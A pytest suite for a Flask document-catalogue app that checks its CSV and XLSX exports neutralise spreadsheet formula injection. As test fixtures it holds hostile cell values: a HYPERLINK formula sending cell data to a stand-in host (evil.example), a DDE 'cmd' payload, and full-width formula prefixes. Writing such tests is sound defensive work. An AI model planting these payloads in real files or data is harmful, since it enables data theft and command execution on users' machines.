"""No cell of a CSV or XLSX export runs as a formula, whatever users named things.

Titles, catalogue item names, department names and framework point names are set to formulas
(`=HYPERLINK(…)`, DDE `-2+3+cmd|…`, `@SUM(…)`, a full-width ＋ or － in front), then every
spreadsheet export the app offers is downloaded and read back: CSV cells carry a leading single
quote (OWASP), XLSX cells are string cells — openpyxl reads no formula and the sheet XML holds no
`<f>` element — and numbers the product computes stay numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from flask import Flask
from flask.testing import FlaskClient
from lxml import etree

from tests.actors import AS_EDITOR
from tests.conftest import login, make_app
from zhengai_docs.catalogue import edit as catalogue_edit
from zhengai_docs.catalogue.codes import document_code
from zhengai_docs.catalogue.framework import parse_framework
from zhengai_docs.cycles import rules
from zhengai_docs.library import Library
from zhengai_docs.spreadsheets import csv_bytes, xlsx_bytes

TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看详情")'  # A105Z: overdue, so in the cycle report too
FLAGGED_TITLE = "-2+3+cmd|' /C calc'!A0"  # A104B, flagged "需复核" once A104Z changes
ITEM_NAME = "@SUM(A1:A9) 重点及特色专业建设"  # catalogue item A102 (its Z and L are missing)
DEPARTMENT = "＋教务处"  # full-width plus: IME input makes it a formula too
POINT_NAME = "－1+1 规划制定与实施"  # framework point 2.1.1, full-width minus
PAYLOADS = (TITLE, FLAGGED_TITLE, ITEM_NAME, DEPARTMENT, POINT_NAME)
STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

AUDIT_EXPORTS = ("/audit/coverage", "/audit/gaps", "/audit/matrix", "/audit/completeness", "/audit/flags")
PAYLOADS_IN = {  # which user-named things each export carries
    "/audit/coverage": {TITLE, FLAGGED_TITLE, DEPARTMENT, POINT_NAME},
    "/audit/gaps": {POINT_NAME},
    "/audit/matrix": {ITEM_NAME},
    "/audit/completeness": {ITEM_NAME, DEPARTMENT},
    "/audit/flags": {FLAGGED_TITLE},
}


@pytest.fixture
def app(instance: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Flask]:
    monkeypatch.setattr(rules, "today", lambda now=None: dt.date(2026, 11, 23))
    application = make_app(instance)
    hostile_names(application.extensions["zhengai"].library)
    yield application
    application.extensions["zhengai"].close()


def hostile_names(library: Library) -> None:
    """What a careless clerk or a hostile editor could type, each where the product takes it."""
    library.rename_department(old="教务处", new=DEPARTMENT, actor=AS_EDITOR, base=library.repo.head())
    library.edit_catalogue(
        lambda c: catalogue_edit.update_item(c, code="A102", name=ITEM_NAME, departments=[DEPARTMENT]),
        actor=AS_EDITOR,
        message="条目更名",
        base=library.repo.head(),
    )
    for code, title in (("A105Z", TITLE), ("A104B", FLAGGED_TITLE)):
        loaded = library.load(document_code(code))
        library.save(loaded.document.with_changes(title=title), actor=AS_EDITOR, message="标题", base=loaded.version.commit)
    regulation = library.load(document_code("A104Z"))  # changed after A104B: A104B needs review
    changed = regulation.document.with_changes(body=regulation.document.body + "\n补充条款。\n")
    library.save(changed, actor=AS_EDITOR, message="补充", base=regulation.version.commit)
    text = library.repo.read("frameworks/moe-2015.yaml").text
    framework = parse_framework(text.replace("name: 规划制定与实施", 'name: "－1+1 规划制定与实施"', 1))
    assert framework.point("2.1.1") is not None and framework.point("2.1.1").name == POINT_NAME  # type: ignore[union-attr]
    library.import_framework(framework, actor=AS_EDITOR, message="框架修订")


@pytest.fixture
def client(app: Flask) -> FlaskClient:
    client = app.test_client()
    login(client, "zhiliang")
    return client


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # Excel on Chinese Windows needs the BOM
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def assert_csv_inert(rows: list[list[str]], payloads: set[str]) -> None:
    cells = [cell for row in rows for cell in row]
    live = [c for c in cells if (c[:1] in STARTS or c.lstrip()[:1] in STARTS) and not NUMBER.fullmatch(c)]
    assert live == []
    for payload in payloads:
        assert any(c == "'" + payload or c.startswith("'" + payload) for c in cells), payload


def assert_xlsx_inert(data: bytes, payloads: set[str]) -> None:
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    for payload in payloads:
        found = [c for c in cells if isinstance(c.value, str) and c.value.startswith(payload)]
        assert found, payload
        assert all(c.data_type == "s" and c.quotePrefix for c in found)  # text, and Excel keeps it text when edited
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheets = [name for name in package.namelist() if name.startswith("xl/worksheets/") and name.endswith(".xml")]
        assert sheets
        for name in sheets:
            root = etree.fromstring(package.read(name))
            assert root.findall(f".//{MAIN}f") == [], name


@pytest.mark.parametrize("url", AUDIT_EXPORTS)
def test_audit_csv_exports_write_formulas_as_text(client: FlaskClient, url: str) -> None:
    response = client.get(f"{url}?format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert_csv_inert(csv_rows(response.data), PAYLOADS_IN[url])


@pytest.mark.parametrize("url", AUDIT_EXPORTS)
def test_audit_xlsx_exports_write_formulas_as_strings(client: FlaskClient, url: str) -> None:
    response = client.get(f"{url}?format=xlsx")
    assert response.status_code == 200 and (response.mimetype or "").endswith("spreadsheetml.sheet")
    assert_xlsx_inert(response.data, PAYLOADS_IN[url])


def test_department_filtered_export_too(client: FlaskClient) -> None:
    response = client.get("/audit/coverage", query_string={"format": "xlsx", "dept": DEPARTMENT})
    assert response.status_code == 200
    assert_xlsx_inert(response.data, {TITLE, DEPARTMENT})


def test_cycle_report_csv_writes_formulas_as_text_and_keeps_numbers(client: FlaskClient) -> None:
    response = client.get("/cycles/export.csv")
    assert response.status_code == 200
    rows = csv_rows(response.data)
    assert_csv_inert(rows, {TITLE, DEPARTMENT})
    a105z = next(r for r in rows if r[0] == "A105Z")
    assert a105z[1] == "'" + TITLE and a105z[3] == "'" + DEPARTMENT
    assert a105z[7] == "3" and NUMBER.fullmatch(a105z[9]) and a105z[9].startswith("-")  # days left: a negative number, unquoted
    assert a105z[8] == "2021-09-05"


@pytest.mark.parametrize("start", STARTS)
def test_every_formula_start_is_neutralised(start: str) -> None:
    text = f"{start}1+1"
    padded = f" \u3000{text}"  # blanks some imports trim; after tab or CR comes "1+1", which is no formula
    rows = csv_rows(csv_bytes(header=["x"], rows=[[text], [padded], [-12], [3.5], [dt.date(2026, 1, 2)], [None]]))
    expected_padded = f"'{padded}" if start.strip() else padded
    assert [r[0] for r in rows[1:]] == [f"'{text}", expected_padded, "-12", "3.5", "2026-01-02", ""]
    data = xlsx_bytes(title="表", header=["x"], rows=[[text], [-12], [dt.date(2026, 1, 2)]], as_of=dt.date(2026, 1, 3), scope=text)
    assert_xlsx_inert(data, {text})
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert sheet["A5"].value == -12 and sheet["A5"].data_type == "n"  # below the title, 统计日期 and header rows
    assert isinstance(sheet["A6"].value, dt.datetime) and sheet["A6"].value.date() == dt.date(2026, 1, 2)


def test_ordinary_text_is_written_as_typed() -> None:
    rows = csv_rows(csv_bytes(header=["标题"], rows=[["包头职业技术学院专业设置管理办法"], ["A101Z"], ["2.1.1"]]))
    assert [r[0] for r in rows] == ["标题", "包头职业技术学院专业设置管理办法", "A101Z", "2.1.1"]
    data = xlsx_bytes(title="表", header=["标题"], rows=[["控制\x07字符"]], as_of=dt.date(2026, 1, 3))
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert sheet["A4"].value == "控制\ufffd字符" and not sheet["A4"].quotePrefix  # openpyxl refuses control characters


def test_every_spreadsheet_writer_goes_through_one_helper() -> None:
    """A new exporter that writes CSV or XLSX itself would bypass the formula guard."""
    package = Path(__file__).resolve().parents[1] / "zhengai_docs"
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|xlsxwriter")
    offenders = [
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if path.name != "spreadsheets.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
